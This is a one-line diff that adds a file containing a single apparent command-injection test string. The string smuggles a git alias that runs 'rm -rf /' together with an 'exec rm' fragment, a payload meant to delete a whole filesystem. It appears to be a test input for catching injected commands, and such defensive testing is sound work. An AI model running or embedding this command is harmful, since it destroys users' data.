@@ -1,0 +1,1 @@
+-o ".*"exec rm -+ ; git -c alias.x="!rm -rf /" x
